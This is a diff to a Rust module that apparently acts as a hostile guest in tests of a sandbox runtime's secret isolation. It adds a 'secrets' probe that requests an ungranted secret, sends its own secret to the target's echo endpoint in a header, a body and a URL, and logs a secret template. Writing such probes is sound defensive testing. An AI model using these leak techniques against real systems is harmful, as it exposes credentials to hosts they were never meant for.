@@ -1,7 +1,7 @@
 //! Reaches for what it was not given.
 
 use squall_sdk::http::Request;
-use squall_sdk::{env, env_all, env_or, tls};
+use squall_sdk::{env, env_all, env_or, log, secret, tls};
 
 use crate::{Attempt, said, target};
 
@@ -10,6 +10,7 @@ pub fn attack(name: &str) -> Option<Attempt> {
         "files" => Ok(files()),
         "environment" => Ok(environment()),
         "certificate" => Ok(certificate()),
+        "secrets" => Ok(secrets()),
         _ => return None,
     })
 }
@@ -41,6 +42,17 @@ fn environment() -> String {
     let found = ["SQUALL_HOSTILE_SECRET", "HOME", "PATH"].iter().filter(|name| env(name).is_some()).count();
     let leaked = env_all().iter().filter(|(_, value)| value.contains("leak")).count();
     format!("{found} found, {leaked} leaked")
+}
+
+/// A secret that it was not given, and one that was given for another host: by its name, by hand, in a URL.
+fn secrets() -> String {
+    let echo = format!("{}/echo?secrets", target());
+    let send = |text: &str| Request::post(&echo).header("x-key", text).body(text.as_bytes()).send().is_ok();
+    let unknown = secret("of-another").is_ok() || send("{{secret:of-another}}");
+    let elsewhere = secret("own").is_ok_and(|text| send(&text));
+    let in_url = Request::get(format!("{echo}&{{{{secret:own}}}}")).send().is_ok();
+    log::info("{{secret:own}}");
+    format!("unknown {unknown}, elsewhere {elsewhere}, in a URL {in_url}")
 }
 
 /// A key whose password takes the host a year to try.
